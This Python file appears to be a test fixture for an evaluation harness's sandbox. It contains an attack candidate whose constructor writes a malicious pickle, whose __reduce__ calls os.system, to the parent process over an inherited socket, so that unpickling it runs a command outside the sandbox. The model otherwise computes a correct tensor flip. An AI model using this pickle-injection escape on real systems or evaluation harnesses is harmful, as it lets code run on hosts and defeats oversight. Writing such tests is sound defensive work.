"""Attack: run code in the parent, outside the sandbox. The worker answers the parent over a
socket it inherited (its fd is the worker's first argument); this candidate writes its own
message there first -- a pickle whose loading calls ``os.system`` -- so that a parent unpickling
it with plain pickle would create a file in the run directory. Flips correctly otherwise."""
import os
import pickle
import struct
import sys

import torch

RUN_DIR = ""  # the test writes the run directory here


class _Payload:
    def __reduce__(self):
        return (os.system, (f"echo pwned > {RUN_DIR}/pwned_by_pickle",))


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()
        data = pickle.dumps(_Payload())
        os.write(int(sys.argv[1]), struct.pack("!i", len(data)) + data)  # multiprocessing's framing

    def forward(self, x):
        N = x.shape[1]
        return x[:, torch.arange(N - 1, -1, -1, device=x.device)]
